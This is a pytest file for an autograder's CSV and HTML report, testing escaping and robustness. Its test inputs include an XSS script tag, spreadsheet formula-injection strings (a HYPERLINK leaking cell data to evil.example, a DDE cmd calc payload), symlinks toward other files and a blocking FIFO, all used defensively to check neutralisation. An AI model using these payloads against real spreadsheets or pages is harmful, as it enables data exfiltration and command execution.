"""scores.csv and report.html from finished results (written here by hand, no grading), checked in Chromium."""

import csv
import io
import json
import os
import re
from dataclasses import asdict
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from grader import GRADER_VERSION
from grader.classroom import report
from grader.classroom.batch import RECORD_NAME, Record, Status, submission_dir
from grader.classroom.export import ExportedSubmission, Submitter
from grader.classroom.report import load_rows, safe_grid_uri, starter_digest, write_report
from grader.engine.homework import load_homework
from grader.engine.scoring import load_band
from tests.classroom.classroom import render_page
from tests.conftest import FLAGSHIP

CHECKS = [("1.1", "sample_gaussian: shape", 3.0), ("2.1", "kl_normal: closed form", 5.0),
          ("4.2", "training: test NELBO in the band", 30.0)]
FULL = {"iterations": 20_000, "seed": 0, "unit_only": False}


def _results(passed: set[str], nelbo: float | None, outputs: dict[str, str] | None = None,
             fault: bool = False, kinds: dict[str, tuple[str, str]] | None = None) -> dict:
    """A results.json as the grader writes it; ``kinds``: check -> (outcome, cause) of a failed check
    (default: a wrong answer), the per-test extra_data of grader/results.py's to_gradescope."""
    def extra(number: str) -> dict:
        outcome, cause = ("passed", "") if number in passed else (kinds or {}).get(number,
                                                                                  ("wrong_answer", "wrong_answer"))
        return {"outcome": outcome, "cause": cause}

    tests = [{"name": name, "number": number, "score": points if number in passed else 0.0, "max_score": points,
              "status": "passed" if number in passed else "failed", "output": (outputs or {}).get(number, ""),
              "extra_data": extra(number)}
             for number, name, points in CHECKS]
    tests.append({"name": "[staff] details", "number": "2.1.staff", "score": 0, "max_score": 0, "status": "failed",
                  "output": "hidden", "extra_data": {"outcome": "staff_detail", "cause": ""}})
    metrics = {} if nelbo is None else {"nelbo": nelbo, "kl": 20.0, "rec": nelbo - 20.0}
    return {"score": sum(t["score"] for t in tests), "tests": tests,
            "extra_data": {"grader_version": GRADER_VERSION, "grader_fault": fault, "metrics": metrics}}


def _grid_png() -> bytes:
    pixels = (np.random.default_rng(0).random((302, 602)) > 0.8).astype(np.uint8) * 255
    buffer = io.BytesIO()
    Image.fromarray(pixels, mode="L").convert("RGB").save(buffer, format="PNG")
    return buffer.getvalue()


def _finish(out: Path, entry: ExportedSubmission, status: Status, digest: str, results: dict | None,
            samples: bytes | None = None, seconds: float = 30.0) -> None:
    folder = submission_dir(out, entry.id)
    folder.mkdir(parents=True)
    record = Record(entry.id, digest, GRADER_VERSION, FULL, status.value, seconds,
                    "no result within 2400 s; killed" if status is Status.TIMEOUT else "")
    (folder / RECORD_NAME).write_text(json.dumps(asdict(record)))
    if results is not None:
        (folder / "results.json").write_text(json.dumps(results))
    if samples is not None:
        (folder / "samples.png").write_bytes(samples)


@pytest.fixture
def finished_batch(tmp_path) -> tuple[list[ExportedSubmission], Path]:
    band = load_band(FLAGSHIP, "nelbo")
    out = tmp_path / "report"
    good = band.full - 1.0
    people = {key: ExportedSubmission(f"submission_{key}", tmp_path / key,
                                      (Submitter(name, f"00{key}", f"{key}@x.edu"),), "2025-02-01T23:59:00-08:00",
                                      gradescope)
              for key, name, gradescope in [
                  ("1", "Ada Lovelace", 38.0), ("2", "Carl Gauss", 3.0), ("3", "Dora Noether", None),
                  ("4", "Emil Artin", None), ("5", "<script>alert('x')</script>, Jr.", 38.0),
                  ("6", "Felix Klein", None), ("7", "Blaise Pascal", None), ("8", "Grace Hopper", None)]}
    _finish(out, people["1"], Status.GRADED, "a" * 64, _results({"1.1", "2.1", "4.2"}, good), _grid_png(), 250.0)
    _finish(out, people["2"], Status.GRADED, "b" * 64, _results({"1.1"}, band.zero + 500),
            b"\x89PNG\r\n\x1a\n not really a png", 260.0)
    _finish(out, people["3"], Status.GRADER_FAULT, "c" * 64, _results(set(), None, fault=True,
            outputs={"2.1": "[autograder fault] The autograder itself failed"},
            kinds={"2.1": ("grader_fault", "grader_fault")}), seconds=20.0)
    _finish(out, people["4"], Status.TIMEOUT, "d" * 64, None, seconds=2400.0)
    _finish(out, people["5"], Status.GRADED, "a" * 64, _results({"1.1", "2.1", "4.2"}, good - 0.5), _grid_png())
    _finish(out, people["6"], Status.GRADED, "e" * 64, _results(set(), None, outputs={
        "1.1": "[timed out] Your code did not finish in time: no answer within 60 s.",
        "2.1": "[error in your code] Your code stopped the process: the worker was ended by signal 9 (SIGKILL)"},
        kinds={"1.1": ("timed_out", "timeout"), "2.1": ("student_error", "crashed")}))
    _finish(out, people["7"], Status.GRADED, starter_digest(FLAGSHIP), _results(set(), None))
    return list(people.values()), out  # submission_8 has no result at all


def test_csv_has_one_row_per_submission_with_checks_metrics_and_flags(finished_batch):
    entries, out = finished_batch
    paths = write_report(entries, out, FLAGSHIP)
    rows = list(csv.DictReader(paths.csv.open(encoding="utf-8")))
    assert [row["submission_id"] for row in rows] == [e.id for e in entries]
    header = list(rows[0])
    assert header[:5] == ["submission_id", "names", "sids", "emails", "created_at"]
    assert header[5:8] == ["1.1 sample_gaussian: shape (/3)", "2.1 kl_normal: closed form (/5)",
                           "4.2 training: test NELBO in the band (/30)"]  # staff entries are not checks
    for column in ("total", "max_total", "nelbo", "kl", "rec", "status", "seconds", "grader_version"):
        assert column in header
    ada = rows[0]
    assert (ada["names"], ada["sids"], ada["emails"]) == ("Ada Lovelace", "001", "1@x.edu")
    assert (ada["1.1 sample_gaussian: shape (/3)"], ada["total"], ada["max_total"]) == ("3", "38", "38")
    assert float(ada["nelbo"]) == pytest.approx(load_band(FLAGSHIP, "nelbo").full - 1.0)
    assert ada["status"] == "graded" and ada["grader_version"] == GRADER_VERSION and ada["run"] == "full"
    by_id = {row["submission_id"]: row for row in rows}
    assert by_id["submission_4"]["status"] == "timeout" and by_id["submission_4"]["total"] == ""
    assert by_id["submission_8"]["status"] == "not graded"
    assert by_id["submission_5"]["names"] == "<script>alert('x')</script>, Jr."  # CSV keeps it as it is

    flags = {row["submission_id"]: row["flags"] for row in rows}
    assert "identical files: same utils.py and vae.py as submission_5" in flags["submission_1"]
    assert "identical files" in flags["submission_5"]
    assert "grader fault" in flags["submission_3"] and "2.1 kl_normal" in flags["submission_3"]
    assert "timeout: no result within 2400 s" in flags["submission_4"]
    assert "timeout: in check 1.1: Your code did not finish" in flags["submission_6"]
    assert "crash: in check 2.1: Your code stopped the process" in flags["submission_6"]
    assert "unchanged starter" in flags["submission_7"]
    assert "not graded" in flags["submission_8"]
    assert "differs from Gradescope: Gradescope shows 38, this grading 38" not in flags["submission_1"]


def test_gradescope_disagreement_is_flagged_for_full_runs(finished_batch):
    entries, out = finished_batch
    entries[1] = ExportedSubmission(entries[1].id, entries[1].path, entries[1].submitters, "", 10.0)
    rows = {row.entry.id: row for row in load_rows(entries, out, FLAGSHIP)}
    assert [f.message for f in rows["submission_2"].flags if f.kind == "differs from Gradescope"] == [
        "Gradescope shows 10, this grading 3"]


def test_only_sane_grids_are_embedded(tmp_path):
    good, bad, huge = tmp_path / "good.png", tmp_path / "bad.png", tmp_path / "huge.png"
    good.write_bytes(_grid_png())
    bad.write_bytes(b"\x89PNG\r\n\x1a\n truncated")
    Image.new("L", (5000, 10)).save(huge)
    assert safe_grid_uri(good).startswith("data:image/png;base64,")
    assert safe_grid_uri(bad) is None and safe_grid_uri(huge) is None and safe_grid_uri(tmp_path / "no.png") is None


def test_page_renders_in_chromium_with_plots_table_and_no_broken_image(finished_batch, tmp_path):
    entries, out = finished_batch
    paths = write_report(entries, out, FLAGSHIP)
    page = paths.html.read_text(encoding="utf-8")
    assert "<script>alert" not in page and "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert 'src="file:' not in page and 'src="http' not in page  # self-contained

    rendered = render_page(paths.html, tmp_path)
    body = re.search(r"<body[^>]*>", rendered.dom).group(0)
    assert 'data-broken-images="0"' in body
    plots = ("plot-scores", "plot-runtimes", "plot-pass-rates", "plot-nelbo")
    images = int(re.search(r'data-images="(\d+)"', body).group(1))
    assert images == len(plots) + 2  # two sane sample grids; the corrupt one is left out, not shown broken
    for plot in plots:
        assert f'id="{plot}"' in rendered.dom
    table = re.search(r'<table id="scores".*?</table>', rendered.dom, re.S).group(0)
    assert table.count("<tr>") == len(entries) + 1  # header + one row each
    assert 'id="gallery"' in rendered.dom and rendered.dom.count("<figcaption>") == 2
    assert Image.open(rendered.screenshot).size == (1400, 3000)


def test_table_sorts_by_a_column(finished_batch, tmp_path):
    entries, out = finished_batch
    paths = write_report(entries, out, FLAGSHIP)
    sorted_page = tmp_path / "sorted"
    sorted_page.mkdir()
    rendered = render_page(paths.html, sorted_page, fragment="sort=seconds-desc", screenshot=False)
    table = re.search(r'<table id="scores".*?</table>', rendered.dom, re.S).group(0)
    first_ids = re.findall(r"<tr><td>(submission_\d+)</td>", table)
    assert first_ids[0] == "submission_4"  # 2,400 s, the timeout
    assert first_ids[-1] == "submission_8"  # no time at all: last either way


# ---- hostile content: what a submission or the metadata can put in the report's way -------------------------

SURROGATE = "\ud800"  # a lone surrogate: valid in a Python str and in JSON ("\ud800"), never encodable as UTF-8


def _person(key: str, name: str = "", sid: str = "", email: str = "", score: float | None = None,
            created_at: str = "2025-02-01T23:59:00-08:00", folder: Path = Path("/nonexistent")) -> ExportedSubmission:
    return ExportedSubmission(f"submission_{key}", folder / key, (Submitter(name, sid, email),), created_at, score)


def test_lone_surrogates_anywhere_never_make_the_report_unwritable(tmp_path):
    out = tmp_path / "report"
    entries = [_person("1", f"Ada {SURROGATE}", f"00{SURROGATE}1", f"ada{SURROGATE}@x.edu"),
               _person("2", "Carl Gauss"), _person("3", "Dora Noether")]
    graded = _results({"1.1"}, None, outputs={"2.1": f"[wrong answer] your kl was {SURROGATE} here"})
    graded["tests"][1]["name"] = f"kl_normal {SURROGATE}"
    graded["extra_data"]["submission_problems"] = [f"utils{SURROGATE}.py is not utils.py"]
    _finish(out, entries[0], Status.GRADED, "a" * 64, graded)
    _finish(out, entries[1], Status.GRADED, "b" * 64, _results(set(), None, kinds={"1.1": ("timed_out", "timeout")},
                                                                outputs={"1.1": f"[timed out] no answer {SURROGATE}"}))
    folder = submission_dir(out, entries[2].id)  # a record whose message holds one, as an exception message might
    folder.mkdir(parents=True)
    record = Record(entries[2].id, "c" * 64, GRADER_VERSION, FULL, Status.CRASHED.value, 3.0,
                    f"the batch could not grade it: OSError: {SURROGATE}")
    (folder / RECORD_NAME).write_text(json.dumps(asdict(record)))  # ensure_ascii: the file holds "\ud800"

    for _ in range(2):  # and again on a rerun
        paths = write_report(entries, out, FLAGSHIP)
    rows = {row["submission_id"]: row for row in csv.DictReader(paths.csv.open(encoding="utf-8"))}
    assert rows["submission_1"]["names"] == "Ada \ufffd" and rows["submission_1"]["sids"] == "00\ufffd1"
    assert "utils\ufffd.py" in rows["submission_1"]["flags"]
    assert "no answer \ufffd" in rows["submission_2"]["flags"]
    assert rows["submission_3"]["message"] == "the batch could not grade it: OSError: \ufffd"
    page = paths.html.read_text(encoding="utf-8")
    assert "Ada \ufffd" in page and "OSError: \ufffd" in page


FORMULAS = {"name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "sid": "+15551234", "email": "@SUM(A1:A9)",
            "created_at": "-2+3+cmd|' /C calc'!A0", "check": "\t=1+1", "message": "\r=1+1", "number": "=2+5"}


def test_cells_a_spreadsheet_would_run_start_with_a_quote_and_numbers_stay_numbers(tmp_path):
    out = tmp_path / "report"
    attacker = _person("1", FORMULAS["name"], FORMULAS["sid"], FORMULAS["email"], score=-5.0,
                       created_at=FORMULAS["created_at"])
    honest = _person("2", "Carl Gauss", "0042", "carl@x.edu", score=38.0)
    results = _results({"1.1", "2.1", "4.2"}, 90.0)
    results["tests"][0].update(number=FORMULAS["number"], name="shape")  # as a results.json rewritten in mode none
    results["tests"][1].update(name=FORMULAS["check"])
    results["extra_data"]["grader_version"] = "=cmd|' /C calc'!A0"
    _finish(out, attacker, Status.GRADED, "a" * 64, results)
    folder = submission_dir(out, honest.id)
    folder.mkdir(parents=True)
    record = Record(honest.id, "b" * 64, GRADER_VERSION, FULL, Status.CRASHED.value, 3.0, FORMULAS["message"])
    (folder / RECORD_NAME).write_text(json.dumps(asdict(record)))

    paths = write_report([attacker, honest], out, FLAGSHIP)
    with paths.csv.open(encoding="utf-8", newline="") as handle:
        header, first, second = list(csv.reader(handle))
    row, other = dict(zip(header, first, strict=True)), dict(zip(header, second, strict=True))
    assert row["names"] == "'" + FORMULAS["name"] and row["sids"] == "'" + FORMULAS["sid"]
    assert row["emails"] == "'" + FORMULAS["email"] and row["created_at"] == "'" + FORMULAS["created_at"]
    assert row["grader_version"].startswith("'=")
    assert other["message"] == "'" + FORMULAS["message"]
    assert "'=2+5 shape (/3)" in header and "2.1 \t=1+1 (/5)" in header  # only a cell's start is read as a formula
    cells = [*header, *first, *second]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert [cell for cell in cells if cell.startswith("-")] == ["-5"]  # the only one: a number, kept a number
    assert row["gradescope_score"] == "-5" and float(row["total"]) == 38 and float(row["nelbo"]) == 90
    assert other["names"] == "Carl Gauss" and other["sids"] == "0042"  # plain text is left as it is


STUDENT_WORDS = ("Debug: the worker was ended by signal 9 (SIGKILL); worker process exited; stopped answering; "
                 "isolation, sandbox, the grader's channel, replaced built-in functions")


def test_a_students_own_words_raise_no_flag(tmp_path):
    out = tmp_path / "report"
    entry = _person("1", "Ada Lovelace")
    results = _results({"1.1"}, None, outputs={"2.1": f"[wrong answer] your kl printed: {STUDENT_WORDS}",
                                               "4.2": f"[not attempted] {STUDENT_WORDS}"},
                       kinds={"4.2": ("not_attempted", "not_implemented")})
    _finish(out, entry, Status.GRADED, "a" * 64, results)
    (row,) = load_rows([entry], out, FLAGSHIP)
    assert row.flags == []


def test_per_check_flags_come_from_extra_data_and_an_older_results_json_gives_none(tmp_path):
    out = tmp_path / "report"
    flagged, older = _person("1", "Ada Lovelace"), _person("2", "Carl Gauss")
    plain = {number: "[error in your code] something went wrong" for number in ("2.1", "4.2")}
    plain["1.1"] = "[timed out] something went wrong"
    _finish(out, flagged, Status.GRADED, "a" * 64, _results(set(), None, outputs=plain, kinds={
        "1.1": ("timed_out", "timeout"), "2.1": ("student_error", "crashed"), "4.2": ("student_error", "protocol")}))
    legacy = _results(set(), None, outputs={"1.1": "[timed out] Your code did not finish in time",
                                            "2.1": "[error in your code] the worker was ended by signal 9",
                                            "4.2": "[error in your code] Your code may have written to the grader's "
                                                   "channel or replaced built-in functions."})
    for test in legacy["tests"]:
        del test["extra_data"]
    _finish(out, older, Status.GRADED, "b" * 64, legacy)
    rows = {row.entry.id: row for row in load_rows([flagged, older], out, FLAGSHIP)}
    kinds = {flag.kind: flag.message for flag in rows["submission_1"].flags}
    assert kinds == {"timeout": "in check 1.1: something went wrong", "crash": "in check 2.1: something went wrong",
                     "isolation": "in check 4.2: something went wrong"}
    assert rows["submission_2"].flags == []


def test_isolation_off_is_flagged_on_the_row_in_the_csv_and_on_the_page(tmp_path):
    out = tmp_path / "report"
    entries = [_person("1", "Ada Lovelace"), _person("2", "Carl Gauss")]
    unisolated = _results({"1.1"}, None)
    unisolated["extra_data"]["isolation"] = {"mode": "none", "os_isolation": False,
                                             "reason": "the grader was not run as root"}
    isolated = _results({"1.1"}, None)
    isolated["extra_data"]["isolation"] = {"mode": "bwrap", "os_isolation": True, "reason": ""}
    _finish(out, entries[0], Status.GRADED, "a" * 64, unisolated)
    _finish(out, entries[1], Status.GRADED, "b" * 64, isolated)
    paths = write_report(entries, out, FLAGSHIP)
    rows = {row["submission_id"]: row for row in csv.DictReader(paths.csv.open(encoding="utf-8"))}
    assert rows["submission_1"]["isolation"] == "none" and rows["submission_2"]["isolation"] == "bwrap"
    flag = "isolation off: graded in sandbox mode none (the grader was not run as root)"
    assert flag in rows["submission_1"]["flags"]
    assert "isolation" not in rows["submission_2"]["flags"]
    page = paths.html.read_text(encoding="utf-8")
    assert "isolation: bwrap (1), none (1)" in page and "1 submission(s) were graded with NO OS isolation" in page


@pytest.mark.filterwarnings("ignore:overflow encountered:RuntimeWarning")  # matplotlib, on 1e308
@pytest.mark.timeout(120)  # the FIFO: a report that opens it blocks, and fails here instead of hanging
def test_hostile_files_and_fields_in_a_submission_folder_never_stop_the_report(tmp_path):
    """What student code could leave where the grader writes, in mode none: links, a FIFO, wrong types."""
    out = tmp_path / "report"
    entries = [_person(str(key), f"Student {key}") for key in range(1, 8)]
    secret = tmp_path / "elsewhere.json"  # another file of the TA's: never read through a link
    secret.write_text(json.dumps(_results({"1.1", "2.1", "4.2"}, 90.0)))
    _finish(out, entries[0], Status.GRADED, "a" * 64, None)
    (submission_dir(out, entries[0].id) / "results.json").symlink_to(secret)
    picture = tmp_path / "elsewhere.png"
    picture.write_bytes(_grid_png())
    (submission_dir(out, entries[0].id) / "samples.png").symlink_to(picture)
    _finish(out, entries[1], Status.GRADED, "b" * 64, None)
    os.mkfifo(submission_dir(out, entries[1].id) / "results.json")  # a reader that opens it waits forever
    garbage = _results({"1.1"}, None)
    garbage["score"] = "all of them"
    garbage["tests"][0].update(number="1.\u00b2", score="3", max_score=float("nan"))
    garbage["tests"][1].update(name="$\\frac{$", number=["2", "1"], extra_data="crashed")
    garbage["tests"].append("not a test")
    garbage["extra_data"].update(metrics={"nelbo": "low", "kl": float("inf")}, isolation="none please",
                                 isolation_violations=17, submission_problems={"a": 1})
    _finish(out, entries[2], Status.GRADED, "c" * 64, garbage)
    _finish(out, entries[3], Status.GRADED, "d" * 64, _results({"1.1"}, None))
    record_path = submission_dir(out, entries[3].id) / RECORD_NAME
    record_path.write_text(json.dumps({**json.loads(record_path.read_text()), "seconds": "fast"}))
    _finish(out, entries[4], Status.GRADED, "e" * 64, _results({"1.1"}, None))
    record_path = submission_dir(out, entries[4].id) / RECORD_NAME
    record_path.write_text(json.dumps({**json.loads(record_path.read_text()), "seconds": float("nan")}))
    _finish(out, entries[5], Status.GRADED, "f" * 64, _results({"1.1"}, 95.0))
    absurd = _results({"1.1", "2.1"}, 1e308)
    for test in absurd["tests"][:2]:
        test.update(score=1e308, max_score=1e308)  # their sum overflows to infinity
    absurd["score"] = 1e308
    _finish(out, entries[6], Status.GRADED, "0" * 64, absurd)

    paths = write_report(entries, out, FLAGSHIP)
    rows = {row["submission_id"]: row for row in csv.DictReader(paths.csv.open(encoding="utf-8"))}
    assert rows["submission_1"]["total"] == "" and rows["submission_1"]["nelbo"] == ""  # the link was not followed
    assert rows["submission_2"]["total"] == ""
    assert rows["submission_3"]["total"] == "" and rows["submission_3"]["nelbo"] == ""
    assert rows["submission_4"]["status"] == rows["submission_5"]["status"] == "not graded"  # not a record
    assert rows["submission_6"]["total"] == "3" and rows["submission_6"]["nelbo"] == "95"
    page = paths.html.read_text(encoding="utf-8")
    assert "samples of submission_1" not in page  # the linked picture was not embedded either


def test_a_plot_that_cannot_be_drawn_leaves_the_rest_of_the_page(finished_batch, monkeypatch):
    entries, out = finished_batch

    def overflowing(rows):
        raise ValueError("autodetected range of [nan, inf] is not finite")

    monkeypatch.setattr(report, "plot_runtimes", overflowing)
    page = write_report(entries, out, FLAGSHIP).html.read_text(encoding="utf-8")
    assert "Grading time: not drawn (autodetected range of [nan, inf] is not finite)" in page
    assert 'id="plot-scores"' in page and '<table id="scores"' in page


def test_a_metric_where_higher_is_better_is_drawn_in_its_own_units_from_high_to_low(monkeypatch, tmp_path):
    homework = load_homework("cvae")
    metric = homework.metric("conditional_accuracy")
    band = load_band(homework, "conditional_accuracy")
    rows = [report.Row(ExportedSubmission(f"s{value}", tmp_path, (), None, None), None,
                       {"extra_data": {"metrics": {"conditional_accuracy": value}}}) for value in (0.95, 0.7, 0.1)]
    drawn = []
    monkeypatch.setattr(report, "_figure_uri", lambda figure: drawn.append(figure) or "data:image/png;base64,")
    report.plot_metric(rows, metric, band, development="")
    axes = drawn[0].axes[0]
    left, right = axes.get_xlim()
    assert left > band.full > band.zero > right >= 0.0  # better to the left, values as they are (not negated)
    assert "-" not in axes.get_xlabel() and "higher is better" in axes.get_xlabel()
    bars = [bar for bar in axes.containers[0] if bar.get_height() > 0]  # the histogram's non-empty bins
    spans = sorted((min(bar.get_x(), bar.get_x() + bar.get_width()), max(bar.get_x(), bar.get_x() + bar.get_width()))
                   for bar in bars)
    assert len(spans) == 3 and all(low <= value <= high for (low, high), value in zip(spans, (0.1, 0.7, 0.95),
                                                                                        strict=True))


def test_the_gallery_caption_gives_every_scored_metric(tmp_path):
    homework = load_homework("cvae")
    out = tmp_path / "report"
    entry = ExportedSubmission("submission_1", tmp_path / "1", (Submitter("Ada Lovelace", "001", "a@x.edu"),),
                               None, None)
    metrics = {"nelbo": 93.9, "nll": 88.61, "conditional_accuracy": 0.9571}
    results = {"score": 100.0, "tests": [], "extra_data": {"grader_version": GRADER_VERSION, "grader_fault": False,
                                                          "metrics": metrics}}
    _finish(out, entry, Status.GRADED, "a" * 64, results, _grid_png())
    page = write_report([entry], out, homework).html.read_text(encoding="utf-8")
    caption = re.search(r"<figcaption>(.*?)</figcaption>", page).group(1)
    assert "NELBO 93.9" in caption and "88.61" in caption and "Conditional accuracy 0.9571" in caption, caption
